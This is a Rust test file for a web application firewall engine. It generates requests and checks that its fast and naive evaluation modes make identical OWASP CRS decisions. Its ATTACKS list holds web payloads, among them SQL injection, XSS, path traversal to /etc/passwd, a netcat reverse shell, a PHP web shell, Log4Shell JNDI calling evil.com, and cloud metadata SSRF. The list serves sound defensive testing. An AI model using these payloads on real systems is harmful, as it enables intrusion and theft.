//! The fast path decides exactly as the naive interpreter: ~300 generated
//! requests (benign values and attack fragments in every part of a request,
//! every body processor) run through CRS PL1 with memoization and the
//! prefilter on and off, in fresh transactions and in one transaction reused
//! with `reset` between requests. Every variant must report the same
//! intervention, the same matched rules in the same order (with their matched
//! variable, value, message and logdata) and the same anomaly scores.

mod common;

use waf_engine::{EvalOptions, Ruleset, Transaction};
use waf_test_support::XorShift;

const BENIGN: &[&str] = &[
    "hello",
    "42",
    "blue shoes",
    "jane.doe@example.com",
    "2024-05-17",
    "en-US",
    "San Francisco",
    "true",
    "3.14159",
    "Hello, world! How are you?",
    "product-1234",
    "O'Brien",
    "a/b/c",
    "price < 100",
    "Tom & Jerry",
    "select a size",
    "100%",
    "caf\u{e9} cr\u{e8}me",
    "https://www.example.com/page?x=1",
    "",
];

const ATTACKS: &[&str] = &[
    "' OR 1=1--",
    "1 UNION SELECT username, password FROM users",
    "1' AND SLEEP(5)#",
    "admin'--",
    "1; DROP TABLE users",
    "SeLeCt * FrOm information_schema.tables",
    "1' or '1'='1",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "\"><iframe src=//evil.com>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "; cat /etc/passwd",
    "$(whoami)",
    "`id`",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "() { :; }; /bin/bash -c 'id'",
    "cmd.exe /c dir",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "eval(base64_decode('ZWNobyAxOw=='));",
    "${jndi:ldap://evil.com/a}",
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "{{7*7}}${7*7}",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "%27%20OR%20%271%27%3D%271",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%252e%252e%252fetc%252fpasswd",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u0027 or 1=1 --",
    "\\x3cscript\\x3e",
    "a\0b<script>",
    "%00' union select 1,2--",
    "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
    "/bin/cat${IFS}/etc/passwd",
    "UNION/**/SELECT/**/1,2,3",
];

/// One generated request.
#[derive(Clone, Debug)]
struct Request {
    method: String,
    uri: Vec<u8>,
    headers: Vec<(Vec<u8>, Vec<u8>)>,
    body: Vec<u8>,
    attack: bool,
}

struct Gen {
    rng: XorShift,
    attack: bool,
    /// Probability (percent) that a value is an attack fragment.
    attack_rate: u64,
}

impl Gen {
    fn value(&mut self) -> String {
        let mut v = if self.attack_rate > 0 && self.rng.percent(self.attack_rate) {
            self.attack = true;
            let a = self.rng.pick(ATTACKS).to_string();
            match self.rng.below(4) {
                0 => format!("{} {a}", self.rng.pick(BENIGN)),
                1 => mixed_case(&mut self.rng, &a),
                _ => a,
            }
        } else {
            self.rng.pick(BENIGN).to_string()
        };
        if self.rng.percent(5) {
            // A long value.
            let n = 200 + self.rng.below(3000);
            let base = v.clone();
            while v.len() < n {
                v.push(' ');
                v.push_str(if base.is_empty() {
                    "lorem ipsum"
                } else {
                    &base
                });
            }
        }
        v
    }

    fn name(&mut self) -> String {
        const NAMES: &[&str] = &[
            "q", "id", "page", "user", "name", "email", "search", "file", "url", "cmd", "redirect",
            "lang", "sort", "token", "data", "x", "filter[]", "a.b", "callback",
        ];
        if self.attack_rate > 0 && self.rng.percent(3) {
            self.attack = true;
            return self.rng.pick(ATTACKS).to_string();
        }
        self.rng.pick(NAMES).to_string()
    }

    fn args(&mut self) -> Vec<(String, String)> {
        let n = if self.rng.percent(8) {
            20 + self.rng.below(60)
        } else {
            self.rng.below(5)
        };
        (0..n).map(|_| (self.name(), self.value())).collect()
    }

    fn request(&mut self) -> Request {
        self.attack = false;
        self.attack_rate = if self.rng.percent(40) { 0 } else { 25 };
        let paths: &[&str] = &[
            "/",
            "/index.html",
            "/catalog/search",
            "/api/v1/items",
            "/login.php",
            "/static/app.js",
            "/cgi-bin/test.cgi",
            "/a%20b/c",
        ];
        let mut path = self.rng.pick(paths).to_string();
        if self.attack_rate > 0 && self.rng.percent(10) {
            self.attack = true;
            let a = self.rng_attack();
            path = format!("/files/{}", url_encode(&mut self.rng, a));
        }
        let kind = self.rng.below(6); // 0,1: none; 2: urlencoded; 3: JSON; 4: multipart; 5: XML or text
        let method = match kind {
            // CRS PL1 allows GET HEAD POST OPTIONS: others are blocked (911100).
            0 | 1 if self.rng.percent(90) => {
                *self.rng.pick(&["GET", "GET", "GET", "HEAD", "OPTIONS"])
            }
            0 | 1 => "DELETE",
            _ if self.rng.percent(90) => "POST",
            _ => *self.rng.pick(&["PUT", "PATCH"]),
        };
        let query = self.args();
        let mut uri = path.into_bytes();
        if !query.is_empty() {
            uri.push(b'?');
            uri.extend_from_slice(&encode_args(&mut self.rng, &query));
        }
        let mut headers: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
        let mut h = |k: &str, v: &str| headers.push((k.into(), v.into()));
        h("Host", "www.example.com");
        h(
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        );
        h("Accept", "text/html,application/xhtml+xml,*/*;q=0.8");
        h("Accept-Language", "en-US,en;q=0.9");
        h("Accept-Encoding", "gzip, deflate");
        h("Connection", "keep-alive");
        if self.rng.percent(30) {
            let v = self.value();
            headers.push((
                b"Referer".to_vec(),
                format!("https://www.example.com/?r={v}").into(),
            ));
        }
        if self.rng.percent(20) {
            let v = self.value();
            headers.push((b"User-Agent".to_vec(), v.into()));
        }
        if self.rng.percent(25) {
            // Repeated headers.
            for _ in 0..2 + self.rng.below(3) {
                let v = if self.rng.percent(70) {
                    format!("10.0.0.{}", self.rng.below(255))
                } else {
                    self.value()
                };
                headers.push((b"X-Forwarded-For".to_vec(), v.into()));
            }
        }
        if self.rng.percent(20) {
            let v = self.value();
            headers.push((b"X-Custom-Data".to_vec(), v.into()));
        }
        if self.rng.percent(50) {
            let n = 1 + self.rng.below(4);
            let cookies: Vec<String> = (0..n)
                .map(|i| {
                    let name = if i == 0 {
                        "session".to_string()
                    } else {
                        self.name()
                    };
                    let v = self.value();
                    format!(
                        "{name}={}",
                        if self.rng.percent(50) {
                            url_encode(&mut self.rng, &v)
                        } else {
                            v
                        }
                    )
                })
                .collect();
            headers.push((b"Cookie".to_vec(), cookies.join("; ").into()));
        }
        let (ct, body): (String, Vec<u8>) = match kind {
            2 => {
                let args = self.args();
                (
                    "application/x-www-form-urlencoded".into(),
                    encode_args(&mut self.rng, &args),
                )
            }
            3 => ("application/json".into(), self.json().into_bytes()),
            4 => self.multipart(),
            5 if self.rng.percent(70) => ("text/xml".into(), self.xml().into_bytes()),
            5 => ("text/plain".into(), self.value().into_bytes()),
            _ => (String::new(), Vec::new()),
        };
        if !ct.is_empty() {
            headers.push((b"Content-Type".to_vec(), ct.into()));
        }
        if !body.is_empty() || method != "GET" && self.rng.percent(80) {
            headers.push((b"Content-Length".to_vec(), body.len().to_string().into()));
        }
        // Shuffle the headers a little (order matters to REQUEST_HEADERS).
        if self.rng.percent(30) && headers.len() > 2 {
            let i = self.rng.below(headers.len());
            let j = self.rng.below(headers.len());
            headers.swap(i, j);
        }
        Request {
            method: method.to_string(),
            uri,
            headers,
            body,
            attack: self.attack,
        }
    }

    fn rng_attack(&mut self) -> &'static str {
        ATTACKS[self.rng.below(ATTACKS.len())]
    }

    fn json(&mut self) -> String {
        let mut s = String::from("{");
        let n = 1 + self.rng.below(4);
        for i in 0..n {
            if i > 0 {
                s.push(',');
            }
            let k = self.name();
            s.push_str(&json_str(&mut self.rng, &k));
            s.push(':');
            self.json_value(&mut s, 0);
        }
        s.push('}');
        if self.rng.percent(3) {
            s.truncate(s.len() / 2); // malformed
        }
        s
    }

    fn json_value(&mut self, s: &mut String, depth: usize) {
        match if depth > 3 {
            self.rng.below(3)
        } else {
            self.rng.below(6)
        } {
            0 => {
                let v = self.value();
                s.push_str(&json_str(&mut self.rng, &v));
            }
            1 => s.push_str(&self.rng.below(100000).to_string()),
            2 => {
                const LITERALS: [&str; 4] = ["true", "false", "null", "-1.5e3"];
                s.push_str(LITERALS[self.rng.below(LITERALS.len())])
            }
            3 | 4 => {
                s.push('[');
                for i in 0..self.rng.below(4) {
                    if i > 0 {
                        s.push(',');
                    }
                    self.json_value(s, depth + 1);
                }
                s.push(']');
            }
            _ => {
                s.push('{');
                for i in 0..1 + self.rng.below(3) {
                    if i > 0 {
                        s.push(',');
                    }
                    let k = self.name();
                    s.push_str(&json_str(&mut self.rng, &k));
                    s.push(':');
                    self.json_value(s, depth + 1);
                }
                s.push('}');
            }
        }
    }

    fn multipart(&mut self) -> (String, Vec<u8>) {
        let boundary = format!("----WebKitFormBoundary{:016x}", self.rng.next_u64());
        let mut b = Vec::new();
        for _ in 0..1 + self.rng.below(4) {
            b.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
            let name = self.name();
            if self.rng.percent(30) {
                let filename = if self.rng.percent(70) {
                    let ext = *self.rng.pick(&["jpg", "pdf", "txt", "php"]);
                    // A PHP upload is an attack for CRS (933110).
                    self.attack |= ext == "php";
                    format!("{}.{ext}", self.rng.pick(&["photo", "report", "notes"]))
                } else {
                    self.value()
                };
                b.extend_from_slice(
                    format!(
                        "Content-Disposition: form-data; name=\"{name}\"; filename=\"{filename}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
                    )
                    .as_bytes(),
                );
            } else {
                b.extend_from_slice(
                    format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n").as_bytes(),
                );
            }
            b.extend_from_slice(self.value().as_bytes());
            b.extend_from_slice(b"\r\n");
        }
        if self.rng.percent(90) {
            b.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
        }
        (format!("multipart/form-data; boundary={boundary}"), b)
    }

    fn xml(&mut self) -> String {
        let mut s = String::from(if self.rng.percent(70) {
            "<?xml version=\"1.0\"?>\n<order>"
        } else {
            "<order>"
        });
        for _ in 0..1 + self.rng.below(4) {
            let attr = self.value();
            let text = self.value();
            let escape = self.rng.percent(80);
            let (attr, text) = if escape {
                (xml_escape(&attr), xml_escape(&text))
            } else {
                (attr, text)
            };
            s.push_str(&format!("<item id=\"{attr}\">{text}</item>"));
        }
        s.push_str("</order>");
        s
    }
}

fn mixed_case(rng: &mut XorShift, s: &str) -> String {
    s.chars()
        .map(|c| {
            if rng.percent(50) {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

/// Percent-encodes: minimally (what a query needs), everything special, or
/// not at all.
fn url_encode(rng: &mut XorShift, s: &str) -> String {
    let mode = rng.below(4);
    let mut out = String::new();
    for &b in s.as_bytes() {
        let special = !b.is_ascii_alphanumeric() && !b"-_.~".contains(&b);
        let encode = match mode {
            0 | 1 => b"&=#+% ?;".contains(&b) || !(0x20..0x7f).contains(&b),
            2 => special,
            _ => b"&=#".contains(&b),
        };
        if b == b' ' && mode == 0 {
            out.push('+');
        } else if encode {
            out.push_str(&format!("%{b:02X}"));
        } else {
            out.push(b as char);
        }
    }
    out
}

fn encode_args(rng: &mut XorShift, args: &[(String, String)]) -> Vec<u8> {
    let parts: Vec<String> = args
        .iter()
        .map(|(k, v)| format!("{}={}", url_encode(rng, k), url_encode(rng, v)))
        .collect();
    parts.join("&").into_bytes()
}

/// A JSON string literal; some characters escaped as `\u00XX` at random.
fn json_str(rng: &mut XorShift, s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            '\'' | '<' | '>' if rng.percent(50) => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\0', "")
}

fn requests() -> Vec<Request> {
    let mut g = Gen {
        rng: XorShift::from_state(0x9e37_79b9_7f4a_7c15),
        attack: false,
        attack_rate: 0,
    };
    (0..300).map(|_| g.request()).collect()
}

/// What a transaction decided, for comparison.
#[derive(Debug, PartialEq, Eq)]
struct Outcome {
    intervention: Option<(u16, u64)>,
    /// id, matched variable name, matched value, msg, logdata, logged.
    matched: Vec<(u64, String, String, String, String, bool)>,
    scores: Vec<Option<Vec<u8>>>,
}

const SCORES: &[&str] = &[
    "blocking_inbound_anomaly_score",
    "detection_inbound_anomaly_score",
    "inbound_anomaly_score_pl1",
    "sql_injection_score",
    "xss_score",
    "rce_score",
    "lfi_score",
    "rfi_score",
    "php_injection_score",
    "http_violation_score",
];

fn run(tx: &mut Transaction<'_>, r: &Request) -> Outcome {
    tx.process_connection("192.168.1.20", 51234, "10.0.0.5", 80);
    tx.process_uri(&r.uri, r.method.as_bytes(), b"HTTP/1.1");
    for (k, v) in &r.headers {
        tx.add_request_header(k, v);
    }
    tx.process_request_headers();
    if tx.intervention().is_none() {
        tx.append_request_body(&r.body);
        tx.process_request_body();
    }
    tx.process_logging();
    Outcome {
        intervention: tx.intervention().map(|i| (i.status, i.rule_id)),
        matched: tx
            .matched_rules()
            .map(|m| {
                (
                    m.id,
                    m.matched_var_name.clone(),
                    m.matched_var.clone(),
                    m.msg.clone(),
                    m.logdata.clone(),
                    m.log,
                )
            })
            .collect(),
        scores: SCORES
            .iter()
            .map(|s| tx.tx_var(s).map(<[u8]>::to_vec))
            .collect(),
    }
}

/// The four combinations of the fast path's switches (other options as by
/// default); the last is [`EvalOptions::naive`].
fn modes() -> [(&'static str, EvalOptions); 4] {
    let d = EvalOptions::default();
    [
        ("default", d),
        ("memo off", EvalOptions { memo: false, ..d }),
        (
            "prefilter off",
            EvalOptions {
                prefilter: false,
                ..d
            },
        ),
        ("naive", EvalOptions::naive()),
    ]
}

fn show(r: &Request) -> String {
    format!(
        "{} {}\n{}\n\n{}",
        r.method,
        String::from_utf8_lossy(&r.uri),
        r.headers
            .iter()
            .map(|(k, v)| format!(
                "{}: {}",
                String::from_utf8_lossy(k),
                String::from_utf8_lossy(v)
            ))
            .collect::<Vec<_>>()
            .join("\n"),
        String::from_utf8_lossy(&r.body)
    )
}

fn check_equal(what: &str, i: usize, r: &Request, want: &Outcome, got: &Outcome) {
    if want != got {
        let ids = |o: &Outcome| o.matched.iter().map(|m| m.0).collect::<Vec<_>>();
        panic!(
            "request {i}: {what} differs from default\n  default: {:?} {:?}\n  {what}: {:?} {:?}\n\
             default outcome: {want:#?}\n{what} outcome: {got:#?}\nrequest:\n{}",
            want.intervention,
            ids(want),
            got.intervention,
            ids(got),
            show(r)
        );
    }
}

#[test]
fn every_mode_and_reused_transactions_decide_alike() {
    let Some(rs) = common::crs_pl1("every_mode_and_reused_transactions_decide_alike") else {
        return;
    };
    let reqs = requests();
    let rs: &Ruleset = &rs;
    // One reused transaction per mode (reset before each request).
    let mut reused: Vec<Transaction<'_>> = modes()
        .iter()
        .map(|(_, o)| rs.transaction_with(*o))
        .collect();
    let (mut attacks, mut attacks_blocked, mut benign, mut benign_blocked, mut matched_any) =
        (0, 0, 0, 0, 0);
    for (i, r) in reqs.iter().enumerate() {
        let mut outcomes = Vec::new();
        for (name, opts) in modes() {
            let mut tx = rs.transaction_with(opts);
            outcomes.push((name, run(&mut tx, r)));
        }
        let want = &outcomes[0].1;
        for (name, got) in &outcomes[1..] {
            check_equal(name, i, r, want, got);
        }
        for ((name, _), tx) in modes().iter().zip(&mut reused) {
            tx.reset();
            let got = run(tx, r);
            check_equal(&format!("reused {name}"), i, r, want, &got);
        }
        let blocked = want.intervention.is_some();
        matched_any += usize::from(want.matched.iter().any(|m| m.5));
        if r.attack {
            attacks += 1;
            attacks_blocked += usize::from(blocked);
        } else {
            benign += 1;
            benign_blocked += usize::from(blocked);
        }
    }
    eprintln!(
        "{} requests: {attacks} with attack fragments ({attacks_blocked} blocked), \
         {benign} benign ({benign_blocked} blocked), {matched_any} logged some rule",
        reqs.len()
    );
    assert!(attacks >= 100, "only {attacks} attack-bearing requests");
    assert!(
        attacks_blocked * 100 >= attacks * 30,
        "only {attacks_blocked} of {attacks} attack-bearing requests blocked"
    );
    assert!(benign >= 50, "only {benign} benign requests");
}

/// A ruleset loaded from a compiled artifact (`waf compile -o`) decides as
/// the same rules compiled from source, before and after its deferred
/// builds (the meta regexes of patterns that came with a dense DFA).
#[test]
fn a_ruleset_from_its_artifact_decides_alike() {
    use waf_compiler::artifact::{self, Entry};
    let Some(crs) = common::crs_dir("a_ruleset_from_its_artifact_decides_alike") else {
        return;
    };
    let text = common::crs_config(&crs, 1);
    let name = crs.join("waf-test.conf");
    let source = Ruleset::from_str(&name.to_string_lossy(), &text).expect("CRS compiles");
    let (bytes, _) = artifact::build(
        &Entry::Text {
            name: name.clone(),
            text,
        },
        &Ruleset::compile_options(),
    );
    let path = std::env::temp_dir().join(format!("waf-modes-{}.wafc", std::process::id()));
    std::fs::write(&path, bytes.expect("an artifact")).expect("write");
    let from_artifact =
        Ruleset::from_files(std::slice::from_ref(&path)).expect("the artifact loads");
    let _ = std::fs::remove_file(&path);
    let reqs = requests();
    let naive = EvalOptions::naive();
    for round in ["while building", "built"] {
        for (i, r) in reqs.iter().enumerate() {
            let want = run(&mut source.transaction(), r);
            let got = run(&mut from_artifact.transaction(), r);
            check_equal(&format!("artifact ({round})"), i, r, &want, &got);
            let got = run(&mut from_artifact.transaction_with(naive), r);
            check_equal(&format!("artifact, naive ({round})"), i, r, &want, &got);
        }
        from_artifact.finish_building();
    }
}
